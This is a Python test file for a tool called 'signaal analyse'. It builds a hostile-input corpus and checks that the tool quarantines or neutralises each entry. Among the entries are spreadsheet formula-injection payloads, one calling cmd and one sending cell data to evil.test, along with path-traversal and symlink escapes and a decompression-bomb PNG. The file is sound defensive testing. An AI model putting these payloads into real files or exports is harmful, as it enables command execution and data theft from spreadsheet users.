"""A hostile-input corpus through ``signaal analyse`` (the command, in a subprocess).

Good synthetic records (``signaal.synth``) mixed with everything a broken export or an attacker
can put in a file: formula ids and titles, dates that overflow once converted to UTC, deep
nesting, a huge line, wrong types in every field, BOMs, NUL bytes, invalid UTF-8, CRLF, duplicate
and conflicting ids, and photo paths that escape the corpus folder or point at a FIFO, a folder,
a device, a symlink loop, a 144-megapixel image that is small on disk, a truncated JPEG and an
EPS file. The run must end (exit 0 or 3), analyse every good record, write no formula cell, read
no photo outside the folder, and name file, line, field and reason for everything quarantined.
"""

from __future__ import annotations

import csv
import os
import shutil
import struct
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

import orjson
import pytest

from signaal.ads.outputs import FORMULA_STARTS, neutralise_cell
from signaal.synth import SynthConfig, generate

from .adfactories import record_json

CSV_OUTPUTS = ("ads.csv", "personas.csv", "networks.csv", "movements.csv", "links.csv")
FORMULA_IDS = (
    '=HYPERLINK("http://evil.test/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HOSTILE_PHONE = "06-90000099"


def big_png(width: int, height: int) -> bytes:
    """A real greyscale PNG of ``width`` x ``height`` black pixels: tiny on disk, huge decoded.

    Written row by row so that the test itself never holds the decoded image.
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + one byte per pixel
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def _line(record: dict[str, Any]) -> bytes:
    return orjson.dumps(record)


def _hostile_ad(ad_id: str, **overrides: Any) -> dict[str, Any]:
    record = record_json(
        id=ad_id,
        site="hostile",
        url=f"https://hostile.test/{len(ad_id)}",
        title="Nieuw hier",
        text=f"Alleen voor test {ad_id!r}",
        phones=[],
        name=None,
        images=[],
    )
    record.update(overrides)
    return record


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "corpus"
    generate(SynthConfig(seed=7, ads=300, photos=True), corpus, workers=1)
    good_lines = (corpus / "ads.jsonl").read_bytes().splitlines()
    good = [orjson.loads(line) for line in good_lines]
    good_ids = {record["id"] for record in good}

    # A sentinel outside the corpus: a copy of a good ad's photo, so that reading it through an
    # escaping path would photo-link the hostile ad to that ad.
    with_photo = next(r for r in good if r["images"])
    outside = root / "outside"
    outside.mkdir()
    sentinel = outside / "sentinel.jpg"
    shutil.copyfile(corpus / with_photo["images"][0], sentinel)

    photos = corpus / "photos"
    shutil.copyfile(sentinel, photos / "inside-copy.jpg")  # the control: this one may be read
    (photos / "escape-link.jpg").symlink_to(sentinel)
    (photos / "loop.jpg").symlink_to(photos / "loop.jpg")
    os.mkfifo(photos / "fifo.jpg")
    (photos / "folder.jpg").mkdir()
    (photos / "huge.png").write_bytes(big_png(12_000, 12_000))
    jpeg = (corpus / with_photo["images"][0]).read_bytes()
    (photos / "truncated.jpg").write_bytes(jpeg[: len(jpeg) // 3])
    (photos / "ghost.jpg").write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n")
    escapes = [
        "../outside/sentinel.jpg",
        str(sentinel),
        "photos/escape-link.jpg",
        "photos/loop.jpg",
        "photos/fifo.jpg",
        "photos/folder.jpg",
        "/dev/zero",
        "photos/huge.png",
        "photos/truncated.jpg",
        "photos/ghost.jpg",
        "photos/../../outside/sentinel.jpg",
        "photos/nul\x00.jpg",
        "photos/" + "a" * 300 + ".jpg",
    ]

    analysed: list[dict[str, Any]] = []  # hostile records that are valid: they must be analysed
    lines: list[bytes] = []
    expected_fields: dict[str, str | None] = {}  # marker in the raw line -> quarantined field

    def bad(marker: str, line: bytes, field: str | None) -> None:
        expected_fields[marker] = field
        lines.append(line)

    # Console markup in an id and a photo path: printed on stderr, it must not be interpreted.
    markup = _hostile_ad("[/][bold]hostile:markup", images=["photos/[/]x.jpg"], text="markup")
    analysed.append(markup)
    lines.append(_line(markup))
    bad("hostile:markup-conflict", _line({**markup, "title": "hostile:markup-conflict"}), "id")
    for number, ad_id in enumerate(FORMULA_IDS):
        record = _hostile_ad(
            ad_id,
            site=FORMULA_IDS[(number + 1) % len(FORMULA_IDS)],
            title=FORMULA_IDS[(number + 2) % len(FORMULA_IDS)],
            city=FORMULA_IDS[(number + 3) % len(FORMULA_IDS)],
            name="=Anna",
            phones=[HOSTILE_PHONE],  # one persona: their ids meet in links.csv
        )
        analysed.append(record)
    photo_ad = _hostile_ad("hostile:photos", images=escapes, phones=["06-90000098"])
    analysed.append(photo_ad)
    control = _hostile_ad("hostile:control", images=["photos/inside-copy.jpg"], text="Controle")
    analysed.append(control)
    analysed.append(_hostile_ad("hostile:nul", title="a\x00b", text="nul\x00byte 06\x0090000097"))
    analysed.append(_hostile_ad("hostile:unicode", title="\u202eevil\u202c", text="🙂" * 500))
    analysed.append(_hostile_ad("hostile:edge-date", posted_at="1990-01-01T00:00:00+00:00"))
    lines += [_line(r) for r in analysed[1:]]
    lines.append(_line(_hostile_ad("hostile:crlf")) + b"\r")  # CRLF line end
    analysed.append(_hostile_ad("hostile:crlf"))
    lines.append(_line(analysed[1]))  # an identical duplicate: dropped, not quarantined

    bad("hostile:conflict", _line(_hostile_ad(FORMULA_IDS[2], title="hostile:conflict")), "id")
    for marker, posted_at in (
        ("hostile:date-min", "0001-01-01T00:00:00+14:00"),
        ("hostile:date-max", "9999-12-31T23:59:59-14:00"),
        ("hostile:date-old", "1899-12-31T23:59:59Z"),
        ("hostile:date-far", "2600-01-01T00:00:00Z"),
        ("hostile:date-naive", "2026-03-02T10:00:00"),
    ):
        bad(marker, _line(_hostile_ad(marker, posted_at=posted_at)), "posted_at")
    deep = _line(_hostile_ad("hostile:deep"))[:-1] + b',"nest":' + b"[" * 300 + b"]" * 300 + b"}"
    bad("hostile:deep", deep, "nest")
    wide = _hostile_ad("hostile:wide", many=list(range(20_000)))
    bad("hostile:wide", _line(wide), "many")
    bad("hostile:huge", b'{"id":"hostile:huge","text":"' + b"x" * 3_000_000 + b'"}', None)
    wrong_types: dict[str, Any] = {
        "id": 5,
        "site": [],
        "url": None,
        "posted_at": 20260302,
        "title": {"a": 1},
        "text": True,
        "city": 3.5,
        "phones": "06-90000001",
        "emails": [1],
        "handles": {},
        "name": ["Anna"],
        "age": "22",
        "origin": 1,
        "category": [None],
        "prices": [80],
        "images": "a.jpg",
    }
    for field, value in wrong_types.items():
        marker = f"hostile:type-{field}"
        record = _hostile_ad(marker, text=marker)
        record[field] = value
        bad(marker, _line(record), field)
    bad("hostile:bad-utf8", b'{"id": "hostile:bad-utf8", "text": "caf\xe9"}', None)
    bad("hostile:raw-nul", b'{"id": "hostile:raw-nul\x00"}', None)
    bad("hostile:array", b'["hostile:array"]', None)
    bad("hostile:mid-bom", b"\xef\xbb\xbf" + _line(_hostile_ad("hostile:mid-bom")), None)

    # A BOM before the first line is a Windows export, not an error; blank lines are skipped.
    data = b"\xef\xbb\xbf" + b"\n".join(good_lines[:150] + lines + [b"", b"   "] + good_lines[150:])
    (corpus / "ads.jsonl").write_bytes(data + b"\n")
    return {
        "root": root,
        "corpus": corpus,
        "good_ids": good_ids,
        "analysed": analysed,
        "expected_fields": expected_fields,
        "sentinel": sentinel,
        "escapes": escapes,
    }


def analyse(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "signaal", "analyse", *args, "--quiet", "--workers", "2"],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def run(hostile: dict[str, Any]) -> dict[str, Any]:
    # Relative paths, run from the corpus's parent folder: photos resolve against the corpus.
    done = analyse(hostile["root"], "corpus/ads.jsonl", "--out", "out")
    return {**hostile, "done": done, "out": hostile["root"] / "out"}


def test_the_run_ends_with_exit_3(run: dict[str, Any]) -> None:
    done = run["done"]
    assert done.returncode == 3, done.stderr
    assert "Traceback" not in done.stderr
    assert "conflicting record: id '[/][bold]hostile:markup'" in done.stderr


def test_every_good_and_every_valid_hostile_record_is_analysed(run: dict[str, Any]) -> None:
    rows = csv_rows(run["out"] / "ads.csv")
    assert rows[0][0] == "ad_id"
    ids = [row[0] for row in rows[1:]]
    assert len(ids) == len(set(ids))
    expected = run["good_ids"] | {neutralise_cell(r["id"]) for r in run["analysed"]}
    assert set(ids) == expected


def test_no_cell_of_any_csv_starts_a_formula(run: dict[str, Any]) -> None:
    seen_neutralised = 0
    for name in CSV_OUTPUTS:
        for row in csv_rows(run["out"] / name):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
                seen_neutralised += cell.startswith("'") and cell[1:2] in "=+-@\t\r"
    # The formula ids are in ads.csv and (one persona, one phone) in links.csv.
    links = {cell for row in csv_rows(run["out"] / "links.csv") for cell in row[:2]}
    assert {neutralise_cell(i) for i in FORMULA_IDS} <= links
    assert seen_neutralised >= 2 * len(FORMULA_IDS)


def test_no_contact_point_in_any_csv(run: dict[str, Any]) -> None:
    for name in CSV_OUTPUTS:
        text = (run["out"] / name).read_text("utf-8")
        for digits in ("90000099", "90000098", "90000097", "06-9000"):
            assert digits not in text, (name, digits)


def test_every_bad_record_is_quarantined_with_file_line_field_and_reason(
    run: dict[str, Any],
) -> None:
    entries = [
        orjson.loads(line) for line in (run["out"] / "quarantine.jsonl").read_bytes().splitlines()
    ]
    lines = (run["corpus"] / "ads.jsonl").read_bytes().split(b"\n")
    for entry in entries:
        assert entry["source"] == "ads.jsonl"
        assert entry["line"] >= 1
        assert entry["reason"]
    for marker, field in run["expected_fields"].items():
        found = [
            e
            for e in entries
            if not e["reason"].startswith("photo ") and marker.encode() in lines[e["line"] - 1]
        ]
        assert len(found) == 1, (marker, found)
        assert found[0]["field"] == field, (marker, found[0])
    by_reason = {e["reason"].split(":")[0] for e in entries}
    assert {"bad date", "line too long", "not UTF-8", "malformed JSON"} <= by_reason


def test_no_photo_outside_the_folder_is_read_and_each_bad_photo_is_quarantined(
    run: dict[str, Any],
) -> None:
    entries = [
        orjson.loads(line) for line in (run["out"] / "quarantine.jsonl").read_bytes().splitlines()
    ]
    photo_problems = {
        e["reason"].split(" (")[0]: e for e in entries if e["raw"] == "hostile:photos"
    }
    for written in run["escapes"]:
        matching = [r for r in photo_problems if r.endswith(f": {written}")]
        assert matching, (written, sorted(photo_problems))
        assert photo_problems[matching[0]]["field"] == "images"
    reasons = " ".join(e["reason"] for e in entries if e["raw"] == "hostile:photos")
    assert "outside the permitted folder" in reasons
    assert "named pipe" in reasons
    assert "too many pixels" in reasons
    # Read through any of these paths, the sentinel (a copy of a good ad's photo) would have
    # photo-linked the hostile ad to that ad.
    photo_links = [row[:2] for row in csv_rows(run["out"] / "links.csv") if row[2] == "photo"]
    assert not [pair for pair in photo_links if "hostile:photos" in pair]
    # The control: the same picture inside the folder is read and links the two ads.
    assert [pair for pair in photo_links if "hostile:control" in pair]
    # The ad itself is analysed with its (refused) photos.
    ids = {row[0] for row in csv_rows(run["out"] / "ads.csv")}
    assert "hostile:photos" in ids


def test_an_empty_file_is_analysed_as_nothing(tmp_path: Path) -> None:
    (tmp_path / "empty.jsonl").write_bytes(b"")
    done = analyse(tmp_path, "empty.jsonl", "--out", "out")
    assert done.returncode == 0, done.stderr
    assert csv_rows(tmp_path / "out" / "ads.csv") == [
        ["ad_id", "persona_id", "network_id", "risk_score", "risk_level", "indicators"]
    ]


def test_a_hostile_csv_loses_only_its_bad_rows(tmp_path: Path) -> None:
    from signaal.ads.records import AD_RECORD_FIELDS

    def row(record: dict[str, Any]) -> list[str]:
        cells = []
        for name in AD_RECORD_FIELDS:
            value = record[name]
            if isinstance(value, list):
                cells.append(";".join(value))
            elif isinstance(value, dict):
                cells.append(orjson.dumps(value).decode())
            else:
                cells.append("" if value is None else str(value))
        return cells

    good = [_hostile_ad(f"csv:{n}", phones=[f"06-9000010{n}"]) for n in range(5)]
    formula = _hostile_ad("=1+1", site="@x", title="+t", city="-2+3", phones=["06-90000101"])
    with (tmp_path / "ads.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(AD_RECORD_FIELDS)
        writer.writerow(row(good[0]))
        writer.writerow(row({**_hostile_ad("csv:age"), "age": "²"}))
        writer.writerow(row({**_hostile_ad("csv:bigage"), "age": "9" * 5000}))
        writer.writerow(row({**_hostile_ad("csv:date"), "posted_at": "0001-01-01T00:00:00+14:00"}))
        writer.writerow(row(good[1]))
        writer.writerow(row({**_hostile_ad("csv:field"), "text": "y" * 200_000}))
        writer.writerow(row(good[2]))
        writer.writerow(row(formula))
        writer.writerow(["csv:short", "x"])
    with (tmp_path / "ads.csv").open("ab") as handle:
        handle.write(b"csv:bad-utf8,caf\xe9\r\n")
        handle.write(b"csv:huge," + b"z" * 2_000_000 + b"\r\n")
    with (tmp_path / "ads.csv").open("a", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(row(good[3]))
        writer.writerow(row(good[4]))
    done = analyse(tmp_path, "ads.csv", "--out", "out")
    assert done.returncode == 3, done.stderr
    ids = {r[0] for r in csv_rows(tmp_path / "out" / "ads.csv")[1:]}
    assert ids == {f"csv:{n}" for n in range(5)} | {"'=1+1"}
    entries = [
        orjson.loads(line)
        for line in (tmp_path / "out" / "quarantine.jsonl").read_bytes().splitlines()
    ]
    found = sorted((e["line"], e["field"], e["reason"].split(":")[0]) for e in entries)
    assert found == [
        (3, "age", "age '²' is not a whole number"),
        (4, "age", f"age '{'9' * 5000}' is not a whole number"),
        (5, "posted_at", "bad date"),
        (7, None, "malformed CSV"),
        (10, "url", "row has fewer values than columns"),
        (11, None, "not UTF-8"),
        (12, None, "line too long"),
    ]
    assert all(e["source"] == "ads.csv" and e["reason"] for e in entries)


def test_hostile_saved_pages_are_quarantined_one_by_one(
    hostile: dict[str, Any], tmp_path: Path
) -> None:
    pages = tmp_path / "pages"
    shutil.copytree(hostile["corpus"] / "pages", pages, symlinks=True)
    n_pages = sum(1 for _ in pages.rglob("*.html"))
    site = next(p for p in pages.iterdir() if p.is_dir())
    secret = tmp_path / "secret.html"
    secret.write_text("<html>secret outside the folder</html>", "utf-8")
    (site / "escape.html").symlink_to(secret)
    os.mkfifo(site / "fifo.html")
    (site / "huge.html").write_bytes(b"<html>" + b"x" * 6_000_000 + b"</html>")
    (site / "garbage.html").write_bytes(b"\xff\xfe\x00<<<>>>")
    done = analyse(tmp_path, "pages", "--out", "out", "--no-photos")
    assert done.returncode == 3, done.stderr
    rows = csv_rows(tmp_path / "out" / "ads.csv")
    assert len(rows) - 1 == n_pages
    entries = [
        orjson.loads(line)
        for line in (tmp_path / "out" / "quarantine.jsonl").read_bytes().splitlines()
    ]
    by_page = {Path(e["source"]).name: e["reason"] for e in entries}
    assert set(by_page) == {"escape.html", "fifo.html", "huge.html", "garbage.html"}
    assert "outside the permitted folder" in by_page["escape.html"]
    assert "named pipe" in by_page["fifo.html"]
    assert "too large" in by_page["huge.html"]
    assert "secret" not in (tmp_path / "out" / "quarantine.jsonl").read_text("utf-8")
